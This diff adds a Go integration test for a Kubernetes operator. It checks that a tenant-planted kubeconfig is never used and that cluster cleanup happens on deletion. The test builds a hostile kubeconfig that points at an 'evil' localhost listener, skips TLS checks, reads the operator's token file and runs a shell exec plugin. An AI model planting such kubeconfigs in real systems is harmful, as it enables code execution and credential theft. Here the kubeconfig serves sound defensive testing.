@@ -1,0 +1,201 @@
+package integration
+
+import (
+	"net"
+	"os"
+	"path/filepath"
+	"sync/atomic"
+	"time"
+
+	. "github.com/onsi/ginkgo/v2"
+	. "github.com/onsi/gomega"
+	corev1 "k8s.io/api/core/v1"
+	eventsv1 "k8s.io/api/events/v1"
+	apierrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/client-go/kubernetes"
+	"k8s.io/client-go/tools/clientcmd"
+	clientcmdapi "k8s.io/client-go/tools/clientcmd/api"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	v1alpha1 "github.com/carousel-dev/carousel/apis/carousel/v1alpha1"
+	"github.com/carousel-dev/carousel/pkg/bootstrap"
+	"github.com/carousel-dev/carousel/pkg/controller/managed"
+	"github.com/carousel-dev/carousel/pkg/credentials"
+	"github.com/carousel-dev/carousel/test/framework"
+)
+
+// attacker is a TCP listener standing in for a server a tenant controls: it
+// counts every connection it is offered and answers none.
+type attacker struct {
+	listener net.Listener
+	accepted atomic.Int64
+}
+
+func listenAsAttacker() *attacker {
+	GinkgoHelper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	Expect(err).NotTo(HaveOccurred())
+	a := &attacker{listener: l}
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			a.accepted.Add(1)
+			_ = conn.Close()
+		}
+	}()
+	DeferCleanup(l.Close)
+	return a
+}
+
+// tenantKubeconfig is what a tenant with write access to the Cluster's
+// namespace puts into the operator's Secret: a server of theirs, the operator
+// Pod's own service-account token by file, an exec plugin that would run on
+// the operator's machine, client certificates by path and no TLS checks.
+func tenantKubeconfig(server, tokenFile, marker string) []byte {
+	GinkgoHelper()
+	cfg := clientcmdapi.NewConfig()
+	cfg.Clusters["evil"] = &clientcmdapi.Cluster{Server: server, InsecureSkipTLSVerify: true}
+	cfg.AuthInfos["evil"] = &clientcmdapi.AuthInfo{
+		TokenFile: tokenFile,
+		Exec: &clientcmdapi.ExecConfig{
+			APIVersion: "client.authentication.k8s.io/v1", Command: "/bin/sh",
+			Args:            []string{"-c", "touch " + marker + "; echo '{\"apiVersion\":\"client.authentication.k8s.io/v1\",\"kind\":\"ExecCredential\",\"status\":{\"token\":\"x\"}}'"},
+			InteractiveMode: clientcmdapi.NeverExecInteractiveMode,
+		},
+	}
+	cfg.Contexts["evil"] = &clientcmdapi.Context{Cluster: "evil", AuthInfo: "evil"}
+	cfg.CurrentContext = "evil"
+	data, err := clientcmd.Write(*cfg)
+	Expect(err).NotTo(HaveOccurred())
+	return data
+}
+
+var _ = Describe("The tenant boundary with a managed cluster", Ordered, func() {
+	var (
+		c     *v1alpha1.Cluster
+		admin kubernetes.Interface
+	)
+
+	BeforeAll(func(ctx SpecContext) {
+		ns := newNamespace(ctx)
+		var writes atomic.Int64
+		startControllers(ns, &writes)
+		port, err := framework.FreePort()
+		Expect(err).NotTo(HaveOccurred())
+		cp := &framework.ManagedControlPlane{BinDir: os.Getenv("KUBEBUILDER_ASSETS"), Dir: GinkgoT().TempDir(), APIServerPort: port}
+		c = &v1alpha1.Cluster{
+			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "tenant"},
+			Spec:       v1alpha1.ClusterSpec{KubernetesVersion: "1.36.3", ControlPlane: v1alpha1.ControlPlaneSpec{Endpoint: cp.Endpoint()}},
+		}
+		Expect(k8s.Create(ctx, c)).To(Succeed())
+		c = waitForReady(ctx, client.ObjectKeyFromObject(c))
+		Expect(cp.WriteCredentials(ctx, k8s, c)).To(Succeed())
+		Expect(cp.Start(ctx)).To(Succeed())
+		DeferCleanup(cp.Stop)
+		cfg, err := framework.RESTConfig(ctx, k8s, c, credentials.CertAdmin)
+		Expect(err).NotTo(HaveOccurred())
+		admin = kubernetes.NewForConfigOrDie(cfg)
+		Eventually(func(g Gomega) {
+			tokens, err := admin.CoreV1().Secrets(metav1.NamespaceSystem).List(ctx, metav1.ListOptions{LabelSelector: bootstrap.LabelToken + "=" + c.Name})
+			g.Expect(err).NotTo(HaveOccurred())
+			g.Expect(tokens.Items).To(HaveLen(1))
+		}).WithTimeout(time.Minute).Should(Succeed(), "Carousel connects to the managed cluster and issues a bootstrap token")
+	})
+
+	It("never connects with a kubeconfig a tenant wrote beside the Cluster", func(ctx SpecContext) {
+		evil := listenAsAttacker()
+		dir := GinkgoT().TempDir()
+		tokenFile, marker := filepath.Join(dir, "token"), filepath.Join(dir, "exec-ran")
+		Expect(os.WriteFile(tokenFile, []byte("the-operator-service-account-token"), 0o600)).To(Succeed())
+
+		// The tenant corrupts the cluster CA Secret first, so that the
+		// Cluster controller stops at it and does not rewrite the operator
+		// Secret, then plants the kubeconfig.
+		caSecret := &corev1.Secret{}
+		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: c.Namespace, Name: credentials.CASecretName(c.Name, v1alpha1.CARoleCluster)}, caSecret)).To(Succeed())
+		original := caSecret.DeepCopy()
+		caSecret.Data[v1alpha1.DataKeyCertificate] = []byte("corrupt")
+		Expect(k8s.Update(ctx, caSecret)).To(Succeed())
+		operatorSecret := &corev1.Secret{}
+		Expect(k8s.Get(ctx, client.ObjectKey{Namespace: c.Namespace, Name: credentials.CertificateSecretName(c.Name, credentials.CertOperator)}, operatorSecret)).To(Succeed())
+		operatorSecret.Data[v1alpha1.DataKeyKubeconfig] = tenantKubeconfig("https://"+evil.listener.Addr().String(), tokenFile, marker)
+		Expect(k8s.Update(ctx, operatorSecret)).To(Succeed())
+
+		// The Secret's change makes the managed-cluster controller reconcile.
+		// It keeps using its own connection: a token deleted in the managed
+		// cluster is issued again there.
+		Expect(admin.CoreV1().Secrets(metav1.NamespaceSystem).DeleteCollection(ctx, metav1.DeleteOptions{},
+			metav1.ListOptions{LabelSelector: bootstrap.LabelToken + "=" + c.Name})).To(Succeed())
+		Expect(k8s.Update(ctx, withLabel(operatorSecret, "tenant-edit", "2"))).To(Succeed())
+		Eventually(func(g Gomega) {
+			tokens, err := admin.CoreV1().Secrets(metav1.NamespaceSystem).List(ctx, metav1.ListOptions{LabelSelector: bootstrap.LabelToken + "=" + c.Name})
+			g.Expect(err).NotTo(HaveOccurred())
+			g.Expect(tokens.Items).To(HaveLen(1))
+		}).WithTimeout(time.Minute).Should(Succeed())
+		Consistently(evil.accepted.Load).WithTimeout(3*time.Second).Should(BeZero(), "the tenant's server was offered a connection")
+		Expect(marker).NotTo(BeAnExistingFile(), "the tenant's exec plugin ran on the operator's machine")
+
+		Expect(k8s.Get(ctx, client.ObjectKeyFromObject(caSecret), caSecret)).To(Succeed())
+		caSecret.Data = original.Data
+		Expect(k8s.Update(ctx, caSecret)).To(Succeed())
+		waitForReady(ctx, client.ObjectKeyFromObject(c))
+	})
+
+	It("removes its tokens, RBAC and cluster-info from the managed cluster when the Cluster is deleted", func(ctx SpecContext) {
+		Expect(getCluster(ctx, client.ObjectKeyFromObject(c)).Finalizers).To(ContainElement(managed.FinalizerCleanup))
+		Expect(k8s.Delete(ctx, c)).To(Succeed())
+		Eventually(func() bool {
+			return apierrors.IsNotFound(k8s.Get(ctx, client.ObjectKeyFromObject(c), &v1alpha1.Cluster{}))
+		}).WithTimeout(time.Minute).Should(BeTrue(), "the Cluster is released once its managed cluster is clean")
+
+		tokens, err := admin.CoreV1().Secrets(metav1.NamespaceSystem).List(ctx, metav1.ListOptions{LabelSelector: bootstrap.LabelToken + "=" + c.Name})
+		Expect(err).NotTo(HaveOccurred())
+		Expect(tokens.Items).To(BeEmpty())
+		for _, name := range []string{bootstrap.BindingNodeBootstrapper, bootstrap.BindingNodeClient, bootstrap.BindingSelfNodeClient} {
+			_, err := admin.RbacV1().ClusterRoleBindings().Get(ctx, name, metav1.GetOptions{})
+			Expect(apierrors.IsNotFound(err)).To(BeTrue(), "ClusterRoleBinding %s: %v", name, err)
+		}
+		_, err = admin.CoreV1().ConfigMaps(metav1.NamespacePublic).Get(ctx, "cluster-info", metav1.GetOptions{})
+		Expect(apierrors.IsNotFound(err)).To(BeTrue(), "cluster-info: %v", err)
+	})
+})
+
+var _ = Describe("Deleting a Cluster whose managed cluster cannot be reached", func() {
+	It("is released after the cleanup timeout, with an event that says what was left", func(ctx SpecContext) {
+		ns := newNamespace(ctx)
+		var writes atomic.Int64
+		startControllers(ns, &writes)
+		port, err := framework.FreePort() // nothing listens there
+		Expect(err).NotTo(HaveOccurred())
+		c := &v1alpha1.Cluster{
+			ObjectMeta: metav1.ObjectMeta{Namespace: ns, Name: "gone"},
+			Spec: v1alpha1.ClusterSpec{KubernetesVersion: "1.36.3",
+				ControlPlane: v1alpha1.ControlPlaneSpec{Endpoint: (&framework.ManagedControlPlane{APIServerPort: port}).Endpoint()}},
+		}
+		Expect(k8s.Create(ctx, c)).To(Succeed())
+		key := client.ObjectKeyFromObject(c)
+		Eventually(func() []string { return getCluster(ctx, key).Finalizers }).WithTimeout(time.Minute).Should(ContainElement(managed.FinalizerCleanup))
+		Expect(k8s.Delete(ctx, c)).To(Succeed())
+		Eventually(func() bool { return apierrors.IsNotFound(k8s.Get(ctx, key, &v1alpha1.Cluster{})) }).
+			WithTimeout(time.Minute).Should(BeTrue())
+		Eventually(func(g Gomega) {
+			var events eventsv1.EventList
+			g.Expect(k8s.List(ctx, &events, client.InNamespace(ns))).To(Succeed())
+			g.Expect(events.Items).To(ContainElement(And(
+				HaveField("Reason", v1alpha1.EventManagedCleanupAbandoned),
+				HaveField("Note", ContainSubstring("delete the Secrets labelled carousel.dev/bootstrap-token=gone")))))
+		}).Should(Succeed())
+	})
+})
+
+func withLabel(s *corev1.Secret, key, value string) *corev1.Secret {
+	if s.Labels == nil {
+		s.Labels = map[string]string{}
+	}
+	s.Labels[key] = value
+	return s
+}
